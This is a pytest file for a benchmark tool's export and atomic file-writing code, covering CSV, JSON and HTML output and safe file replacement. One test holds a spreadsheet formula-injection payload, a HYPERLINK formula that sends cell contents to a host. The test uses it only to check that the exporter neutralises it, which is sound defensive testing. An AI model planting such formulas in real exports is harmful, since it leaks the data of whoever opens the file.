"""Claimed: an export has every figure, harmlessly, and a file is whole or as it was."""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Callable
from pathlib import Path

import msgspec
import pytest

from chatstream.bench.export import COLUMNS, FORMATS, check, write
from chatstream.bench.result import Result, Sample, Stall, decode
from chatstream.errors import JournalError, UsageError
from chatstream.events import ServerTimes
from tests.support.results import result

WHOLE = Sample(
    number=3,
    arm="m",
    ttft=0.1 + 0.2,  # has 17 digits
    tcp=0.25,
    tls=0.5,
    arrivals=[1.0, 1.5, 4.5, 4.75],
    deltas_at=[1, 1, 1, 1],
    stalls=[Stall(1.5, 3.0), Stall(4.5, 0.25)],
    server=ServerTimes(load=0.125),
    kernel=True,
)


def table(made: Result) -> list[dict[str, str]]:
    text = FORMATS["csv"](made).decode()
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def row(sample: Sample) -> dict[str, str]:
    return table(result(samples=[sample]))[0]


# ---- formats


def test_every_scalar_field_of_a_sample_has_a_column() -> None:
    scalars = [
        field.name
        for field in msgspec.structs.fields(Sample)
        if field.name not in ("arrivals", "deltas_at", "stalls", "lags", "server")
    ]
    assert set(scalars) < set(COLUMNS)
    assert len(set(COLUMNS)) == len(COLUMNS)


def test_the_csv_has_a_header_and_a_row_for_each_run() -> None:
    made = result(n=5, arms=2)
    rows = table(made)
    assert list(rows[0]) == list(COLUMNS)
    assert [int(it["number"]) for it in rows] == [it.number for it in made.samples]
    assert FORMATS["csv"](made).count(b"\r\n") == 1 + len(made.samples)


def test_figures_keep_all_their_digits_and_what_is_missing_is_empty() -> None:
    it = row(WHOLE)
    assert it["ttft"] == "0.30000000000000004"
    assert it["ttfa"] == it["dns"] == it["tokens"] == it["message"] == it["server_total"] == ""
    assert it["kernel"] == "true"
    assert it["cold"] == "false"


def test_what_follows_from_the_lists_is_there() -> None:
    it = row(WHOLE)
    assert (it["connect"], it["stalls"], it["longest_stall"]) == ("0.75", "2", "3.0")
    assert (it["gap_p50"], it["server_load"]) == ("0.5", "0.125")
    bare = row(Sample(number=1, arm="m", arrivals=[1.0]))
    assert (bare["connect"], bare["stalls"], bare["longest_stall"]) == ("", "0", "")
    assert bare["gap_p50"] == ""


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_text_of_the_server_can_be_a_formula(start: str) -> None:
    text = f'{start}HYPERLINK("http://x/?"&A1)'
    it = row(Sample(number=1, arm=text, message=text))
    assert it["message"] == it["arm"] == "'" + text


def test_numbers_stay_numbers_also_below_zero() -> None:
    assert row(Sample(number=1, arm="m", late=-0.5))["late"] == "-0.5"


def test_commas_quotes_and_line_ends_stay_in_their_cell() -> None:
    text = 'a "b", c\r\nd\ne \ud800 \x00'
    it = row(Sample(number=1, arm="m", message=text))
    assert it["message"] == text.replace("\ud800", "?")


def test_the_json_is_one_line_that_is_the_result() -> None:
    made = result(n=6)
    data = FORMATS["json"](made)
    assert data.endswith(b"\n")
    assert data.count(b"\n") == 1
    assert decode(data) == made


def test_the_html_is_the_page() -> None:
    assert FORMATS["html"](result(n=6)).startswith(b"<!doctype html>")


@pytest.mark.parametrize("name", FORMATS)
def test_a_benchmark_without_any_run_can_be_written(name: str) -> None:
    assert FORMATS[name](Result(version=1, chatstream="0", started_at="", target=""))


# ---- files


def test_a_file_is_written_and_written_again(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    check(path)
    assert list(tmp_path.iterdir()) == []
    for data in (b"first, and long", b"second"):
        write(path, data)
        assert path.read_bytes() == data
    assert list(tmp_path.iterdir()) == [path]


def test_who_reads_the_old_file_reads_it_to_its_end(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    write(path, b"old, and whole")
    with path.open("rb", buffering=0) as reader:
        assert reader.read(3) == b"old"
        write(path, b"new")
        assert reader.read() == b", and whole"


def test_a_relative_path_is_one(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    check(Path("a.json"))
    write(Path("a.json"), b"x")
    assert (tmp_path / "a.json").read_bytes() == b"x"


def test_a_link_stays_one(tmp_path: Path) -> None:
    (tmp_path / "real").write_bytes(b"old")
    link = tmp_path / "link"
    link.symlink_to("real")
    write(link, b"new")
    assert link.is_symlink()
    assert (tmp_path / "real").read_bytes() == b"new"


@pytest.mark.parametrize("action", [check, lambda path: write(path, b"x")])
@pytest.mark.parametrize("place", ["missing/a.csv", "file/a.csv", "folder", "pipe", "x" * 300])
def test_where_no_file_can_be_is_told_in_one_line(
    tmp_path: Path, place: str, action: Callable[[Path], None]
) -> None:
    (tmp_path / "file").touch()
    (tmp_path / "folder").mkdir()
    os.mkfifo(tmp_path / "pipe")
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(UsageError) as caught:
        action(tmp_path / place)
    assert str(tmp_path / place) in caught.value.message
    assert "\n" not in caught.value.message
    assert sorted(tmp_path.rglob("*")) == before


def test_a_folder_that_nobody_may_write_is_told() -> None:
    with pytest.raises(UsageError, match="cannot write"):
        check(Path("/proc/a.csv"))  # not even root


def test_a_failure_keeps_the_old_file_and_leaves_nothing_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(_: int) -> None:
        raise OSError(28, "No space left on device")

    path = tmp_path / "a.csv"
    write(path, b"old")
    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(JournalError, match="No space left on device"):
        write(path, b"new")
    assert path.read_bytes() == b"old"
    assert list(tmp_path.iterdir()) == [path]


def test_the_new_file_is_whole_on_the_disk_before_it_has_the_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "a.csv"
    write(path, b"old")
    seen = []

    def look(descriptor: int) -> None:
        seen.append((path.read_bytes(), os.fstat(descriptor).st_size))

    monkeypatch.setattr(os, "fsync", look)
    write(path, b"newer")
    assert seen == [(b"old", 5)]
